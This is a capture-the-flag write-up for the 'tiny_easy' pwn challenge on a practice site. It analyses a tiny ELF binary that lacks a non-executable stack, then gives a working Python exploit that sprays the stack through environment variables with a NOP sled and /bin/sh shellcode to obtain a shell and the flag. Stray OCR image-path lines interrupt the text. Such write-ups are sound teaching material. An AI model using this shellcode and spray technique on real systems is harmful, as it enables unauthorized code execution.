This is a writeup of how to pwn tiny_easy on, a great site for exploitation and reversing practice.

Challenge statement

I made a pretty difficult pwn task. However I also made a dumb rookie mistake and made it too easy :( This is based on real event :) enjoy.

ssh [email protected] -p2222 (pw:guest)


[email protected]:~$ ssh [email protected] -p2222
[email protected]:~$ ./tiny_easy
Segmentation fault

Okay, just segfaults. Let's dump and disassemble it.[email protected]:~$ hexdump -C tiny_easy
00000000  7f 45 4c 46 01 01 01 00  00 00 00 00 00 00 00 00  |.ELF............|
00000010  02 00 03 00 01 00 00 00  54 80 04 08 34 00 00 00  |........T...4...|
00000020  00 00 00 00 00 00 00 00  34 00 20 00 01 00 00 00  |........4. .....|
00000030  00 00 00 00 01 00 00 00  00 00 00 00 00 80 04 08  |................|
00000040  00 80 04 08 5a 00 00 00  5a 00 00 00 05 00 00 00  |....Z...Z.......|
00000050  00 10 00 00 58 5a 8b 12  ff d2                    |....XZ....|

[email protected]:~$ objdump -D tiny_easy

tiny_easy:     file format elf32-i386

[email protected]:~$ objdump -x tiny_easytiny_easy:     file format elf32-i386
architecture: i386, flags 0x00000102:
start address 0x08048054

Program Header:
    LOAD off    0x00000000 vaddr 0x08048000 paddr 0x08048000align 2**12
         filesz 0x0000005a memsz 0x0000005a flags r-x

Idx Name          Size      VMA       LMA       File off  Algn
no symbols

Wow, it really is tiny! It's actually so small, that there is no executable section in it. That's not to say nothing
executes. This is obvious as we get a segmentation fault, it's doing something.

Using GDB (or knowing the structure of an ELF and assembly), we can figure out what it's actually doing.

It simply executes 4 instructions:

58      pop eax
5a      pop edx
8b12    mov edx,DWORD PTR [edx]
ffd2    call edx

How a program works

A program is usually launched with something like:
myprog arg1 arg2 arg3
Additionally programs are aware what's in our $PATH environment variable, as well as any other env vars it might need.

So if you look carefully, that's 2 things a program gets/needs:
1. The arguments
2. The environment

This is evident if you examine the entry point in UNIX:
int main (int argc, char *argv[], char *envp[])

Without diving into how a program stack works on x86 (, what you need to know is that envp, argv, and argc get pushed onto the stack, in that order.

| [    argc    ] <-- This gets popped!v [    argv    ]
  [    envp    ]


The situation looks grim if you examine the binary with checksec, and also check if ASLR is enabled on the server:

RELRO           STACK CANARY      NX            PIE             RPATH      RUNPATH  FORTIFY FORTIFIED FORTIFY-able  FILE
No RELRO        No canary found   NX enabled    No PIE          No RPATH   No RUNPATH   No  0       0/home/tiny_easy/tiny_easy

[email protected]:~$ cat /proc/sys/kernel/randomize_va_space

NX and ASLR are both enabled. This is very problematic, but let's look back to the hint given to us in the beginning.

The hint for this challenge is:

"However I also made a dumb rookie mistake and made it too easy :( This is based on real event :) enjoy."The rookie mistake here is that if you look above, there is no stack program header. So while NX (non-executable stack) is enabled for the machine, NX is not enabled forthis binary. That means the solution can leverage arbitrary execution on the stack.


We need to get our payload onto the stack. We know argc, argv, and envp get pushed onto the stack. So let's put our shellcode into some environment variables. We also need to redirect program flow, recall in the analysis section the four instructions that the program is doing. It pops argc into eax, pops argv into edx, and then starts executing what's pointed by edx.

Normally the first argument in argv is the name of the program, however this is not technically a requirement we can change it to anything we want, evident if you look at the typical structure of an execvcall, execv("myprog", {"myprog", "arg1", "arg2"}), notice the repeated "myprog".

ASLR is enabled, so we don't know the exact address that our payload is at on the stack. So we have to spray the stack by creating a bunch of environment variables and nopsleds.

import os
import subprocess

jumpto = "\xb0\xaf\xb5\xff"
shellcode = "\xeb\x1f\x5e\x89\x76\x08\x31\xc0\x88\x46\x07\x89\x46\x0c\xb0\x0b\x89\xf3\x8d\x4e\x08\x8d\x56\x0c\xcd\x80\x31\xdb\x89\xd8\x40\xcd\x80\xe8\xdc\xff\xff\xff/bin/sh"
nopsled = "\x90"*4096;
payload = nopsled+shellcode

myenv= {}
# Arbitrary largeish number
for i in range(0,100):myenv["spray"+str(i)] = payload

while True:
    p = subprocess.Popen([jumpto], executable="/home/tiny_easy/tiny_easy", env=myenv)


[email protected]:/tmp/eugenek_tiny_easy$ python
$ cat /home/tiny_easy/flag
What a tiny task :) <redacted>

Looking aheadThis was tiny_easy, I'm looking forward to giving tiny a try.

You can see that tiny doesn't have the rookie mistake as this one does.

[email protected]:~/Downloads$ objdump -x tiny

tiny:     file format elf32-i386
   STACK off    0x00000000 vaddr 0x00000000 paddr 0x00000000 align 2**4filesz 0x00000000 memsz 0x00000000 flags rw-

tiny doesn't have anexecutable stack! :(